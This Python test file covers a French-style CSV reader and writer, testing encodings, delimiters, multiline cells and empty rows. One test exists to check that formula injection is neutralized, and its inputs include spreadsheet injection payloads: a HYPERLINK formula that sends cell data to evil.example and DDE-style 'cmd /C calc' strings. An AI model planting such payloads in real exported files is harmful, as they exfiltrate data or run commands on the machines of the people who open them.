"""CSV files as French Excel and LibreOffice write them: encodings, delimiters, lines, injection."""

from __future__ import annotations

import codecs

import pytest
from hypothesis import given
from hypothesis import strategies as st

from coopdesk.formats.errors import FormatError, FormatErrorCode
from coopdesk.formats.french_csv import CsvRow, neutralize_formula, read_table, write_csv

SOURCE = "contacts.csv"


def error_of(data: bytes) -> FormatError:
    with pytest.raises(FormatError) as caught:
        read_table(data, SOURCE)
    assert caught.value.source == SOURCE
    return caught.value


# -- encodings ---------------------------------------------------------------------------------------


def test_windows_1252_accents_as_excel_saves_them() -> None:
    data = "Nom;Prénom;Organisme\r\nDupré;Élise;Conseil départemental\r\n".encode("cp1252")
    assert b"\xc9lise" in data  # "É" is one byte: not UTF-8
    table = read_table(data, SOURCE)
    assert table.encoding == "cp1252"
    assert table.header == ("Nom", "Prénom", "Organisme")
    assert table.rows == (CsvRow(2, ("Dupré", "Élise", "Conseil départemental")),)


def test_utf8_with_bom() -> None:
    table = read_table(codecs.BOM_UTF8 + "Nom;Prénom\r\nDupré;Élise\r\n".encode(), SOURCE)
    assert table.encoding == "utf-8-sig"
    assert table.header == ("Nom", "Prénom")  # no "\ufeff" glued to the first title
    assert table.rows[0].cells == ("Dupré", "Élise")


def test_utf8_without_bom() -> None:
    table = read_table("Nom;Prénom\nDupré;Élise 🍎\n".encode(), SOURCE)
    assert table.encoding == "utf-8"
    assert table.rows[0].cells == ("Dupré", "Élise 🍎")


def test_utf16_with_bom_as_excel_unicode_text() -> None:
    data = "Nom\tPrénom\r\nDupré\tÉlise\r\n".encode("utf-16")
    table = read_table(data, SOURCE)
    assert (table.encoding, table.delimiter) == ("utf-16", "\t")
    assert table.rows[0].cells == ("Dupré", "Élise")


def test_utf16_without_bom_is_unreadable() -> None:
    error = error_of("Nom;Prénom\r\nDupré;Élise\r\n".encode("utf-16-le"))
    assert error.code is FormatErrorCode.UNREADABLE_ENCODING


def test_binary_garbage_is_unreadable() -> None:
    # No NUL byte, no byte that Windows-1252 leaves undefined: still not text.
    garbage = bytes(byte for byte in range(1, 256) if byte not in b"\x81\x8d\x8f\x90\x9d\n\r") * 20
    assert error_of(garbage).code is FormatErrorCode.UNREADABLE_ENCODING


def test_bytes_undefined_in_windows_1252_are_unreadable_and_located() -> None:
    error = error_of(b"Nom;Pr\xe9nom\r\nDupr\xe9;\x81lise\r\n")
    assert (error.code, error.line) == (FormatErrorCode.UNREADABLE_ENCODING, 2)


def test_a_stray_control_character_does_not_make_text_unreadable() -> None:
    data = ("Nom;Notes\r\n" + "Dupré;copié de Word\x0b ici\r\n" * 10).encode("cp1252")
    assert len(read_table(data, SOURCE).rows) == 10


def test_dos_end_of_file_mark_is_ignored() -> None:
    assert read_table(b"Nom;Service\r\nDupont;RH\r\n\x1a", SOURCE).rows == (CsvRow(2, ("Dupont", "RH")),)


# -- delimiters --------------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_delimiter_is_found_from_the_header(delimiter: str) -> None:
    text = (
        delimiter.join(["Nom", "Organisme", "Courriel"]) + "\n" + delimiter.join(["A", "B", "a@b.fr"]) + "\n"
    )
    table = read_table(text.encode(), SOURCE)
    assert table.delimiter == delimiter
    assert table.rows[0].cells == ("A", "B", "a@b.fr")


def test_commas_inside_cells_do_not_fool_a_semicolon_file() -> None:
    table = read_table(b'Nom;Th\xc3\xa8mes\nDupont;"aide, urgence, mobilit\xc3\xa9"\n', SOURCE)
    assert table.delimiter == ";"
    assert table.rows[0].cells == ("Dupont", "aide, urgence, mobilité")


def test_quoted_delimiters_in_the_header_are_not_counted() -> None:
    table = read_table(b'"Nom, pr\xc3\xa9nom";Organisme;Service\nA;B;C\n', SOURCE)
    assert table.header == ("Nom, prénom", "Organisme", "Service")


def test_mixed_separators_are_refused_with_the_delimiter_found() -> None:
    data = b"Nom;Organisme;Courriel\nDupont,CAF,a@caf.fr\nMartin,MSA,b@msa.fr\n"
    error = error_of(data)
    assert (error.code, error.line, error.detail) == (FormatErrorCode.MIXED_SEPARATORS, 2, ",")


def test_one_odd_line_is_a_short_row_not_mixed_separators() -> None:
    data = b"Nom;Organisme\nDupont;CAF\nMartin,MSA\nDurand;CCAS\nPetit;DREETS\nBlanc;MSA\n"
    table = read_table(data, SOURCE)
    assert [row.short for row in table.rows] == [False, True, False, False, False]


def test_single_column_header_takes_the_delimiter_of_the_data() -> None:
    table = read_table(b"Contacts\nDupont,CAF\nMartin,MSA\n", SOURCE)
    assert table.delimiter == ","
    assert table.header == ("Contacts",)
    assert table.rows[0].cells == ("Dupont", "CAF")


# -- lines and rows ----------------------------------------------------------------------------------


def test_quoted_multiline_cells_keep_the_physical_line_of_each_row() -> None:
    data = (
        b"Nom;Notes;Service\r\n"  # 1
        b'Dupont;"rencontr\xc3\xa9e en mars\r\nrappeler en juin\r\n";RH\r\n'  # 2-4
        b"\r\n"  # 5 (blank)
        b'Martin;"une; deux\nlignes";Achats\r\n'  # 6-7
        b"Durand;;Direction\r\n"  # 8
    )
    table = read_table(data, SOURCE)
    assert [row.line for row in table.rows] == [2, 6, 8]
    assert table.rows[0].cells[1] == "rencontrée en mars\r\nrappeler en juin\r\n"
    assert table.rows[1].cells == ("Martin", "une; deux\nlignes", "Achats")


def test_blank_lines_and_empty_excel_rows_are_skipped() -> None:
    data = b"\r\n\r\nNom;Organisme\r\n\r\n;;\r\nDupont;CAF\r\n ; \r\n\r\nMartin;MSA\r\n;;\r\n"
    table = read_table(data, SOURCE)
    assert table.header_line == 3
    assert [(row.line, row.cells) for row in table.rows] == [(6, ("Dupont", "CAF")), (9, ("Martin", "MSA"))]


def test_short_rows_are_returned_marked_not_raised() -> None:
    table = read_table(b"Nom;Organisme;Courriel\nDupont;CAF;a@caf.fr\nMartin\nDurand;MSA;;extra\n", SOURCE)
    assert [(row.line, row.cells, row.short) for row in table.rows] == [
        (2, ("Dupont", "CAF", "a@caf.fr"), False),
        (3, ("Martin",), True),
        (4, ("Durand", "MSA", "", "extra"), False),
    ]
    assert table.width == 3


def test_lone_carriage_returns_of_old_macs_end_lines() -> None:
    table = read_table(b"Nom;Organisme\rDupont;CAF\rMartin;MSA\r", SOURCE)
    assert [(row.line, row.cells) for row in table.rows] == [(2, ("Dupont", "CAF")), (3, ("Martin", "MSA"))]


def test_cells_are_returned_as_they_are() -> None:
    table = read_table(b"Nom;Organisme\n  Dupont  ; CAF\n", SOURCE)
    assert table.rows[0].cells == ("  Dupont  ", " CAF")


def test_quote_inside_an_unquoted_cell_is_tolerated() -> None:
    table = read_table(b'Nom;Surnom\nDupont;Jean "Jeannot"\n"Martin"x;y\n', SOURCE)
    assert table.rows[0].cells == ("Dupont", 'Jean "Jeannot"')
    assert table.rows[1].cells == ("Martinx", "y")


def test_unclosed_quote_is_refused_at_its_line_instead_of_eating_the_file() -> None:
    data = b'Nom;Notes\nDupont;ok\nMartin;"jamais ferm\xc3\xa9e\nDurand;ok\nPetit;ok\n'
    error = error_of(data)
    assert (error.code, error.line) == (FormatErrorCode.UNCLOSED_QUOTE, 3)


@pytest.mark.parametrize("data", [b"", b"   \r\n\r\n  \t", codecs.BOM_UTF8, codecs.BOM_UTF8 + b"\r\n"])
def test_empty_file(data: bytes) -> None:
    assert error_of(data).code is FormatErrorCode.EMPTY_FILE


@pytest.mark.parametrize("data", [b";;;\r\n;;\r\n", b",,\n\t\n"])
def test_file_of_empty_cells_has_no_header(data: bytes) -> None:
    assert error_of(data).code is FormatErrorCode.NO_HEADER


def test_header_without_data_is_an_empty_table() -> None:
    table = read_table(b"Nom;Organisme\r\n", SOURCE)
    assert table.header == ("Nom", "Organisme")
    assert table.rows == ()


# -- writing -----------------------------------------------------------------------------------------


def test_write_csv_is_utf8_with_bom_crlf_and_semicolons() -> None:
    data = write_csv(["Nom", "Notes"], [["Élise Dupré", 'deux\nlignes; et un "mot"']])
    assert data.startswith(codecs.BOM_UTF8)
    assert data[3:] == 'Nom;Notes\r\nÉlise Dupré;"deux\nlignes; et un ""mot"""\r\n'.encode()


def test_write_csv_with_another_delimiter() -> None:
    assert write_csv(["a", "b"], [["1,5", "x"]], delimiter=",")[3:] == b'a,b\r\n"1,5",x\r\n'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://evil.example/?x="&A1;"clic")', "'=HYPERLINK"),
        ("+cmd|' /C calc'!A0", "'+cmd"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3"),
        ("@SUM(1+1)", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+33 4 67 12 34 56", "'+33 4 67"),
        ("-12,50", "-12,50"),  # a plain signed number stays a number
        ("+3", "+3"),
        ("Dupont = président", "Dupont = président"),
        ("", ""),
    ],
)
def test_formula_injection_is_neutralized(cell: str, written: str) -> None:
    assert neutralize_formula(cell).startswith(written)
    table = read_table(write_csv(["Nom"], [[cell, "x"]]), SOURCE)
    if cell:
        assert table.rows[0].cells[0] == neutralize_formula(cell)


def test_header_cells_are_neutralized_too() -> None:
    assert write_csv(["=1+1"], [])[3:] == b"'=1+1\r\n"


def test_write_then_read_gives_the_table_back() -> None:
    header = ["Nom", "Financeur", "Notes"]
    rows = [["Élise Dupré", "Conseil départemental de l'Hérault", "ligne 1\nligne 2"], ["Bob", "CAF", ""]]
    table = read_table(write_csv(header, rows), SOURCE)
    assert table.header == tuple(header)
    assert [list(row.cells) for row in table.rows] == rows
    assert [row.line for row in table.rows] == [2, 4]


def test_a_lone_surrogate_is_replaced_rather_than_failing_the_export() -> None:
    assert write_csv(["Nom"], [["fichier-\udce9.pdf"]])[3:] == b"Nom\r\nfichier-?.pdf\r\n"


CELL_TEXT = st.text(
    alphabet=st.characters(exclude_characters="\x00", exclude_categories=("Cs",)), max_size=30
)


@given(st.lists(st.lists(CELL_TEXT, min_size=3, max_size=3), max_size=12))
def test_any_text_survives_write_then_read(rows: list[list[str]]) -> None:
    header = ["Nom", "Financeur", "Notes"]
    table = read_table(write_csv(header, rows), SOURCE)
    expected = [[neutralize_formula(cell) for cell in row] for row in rows]
    expected = [row for row in expected if any(cell.strip() for cell in row)]  # blank rows are skipped
    assert table.header == tuple(header)
    assert table.delimiter == ";"
    assert [list(row.cells) for row in table.rows] == expected
    assert not any(row.short for row in table.rows)
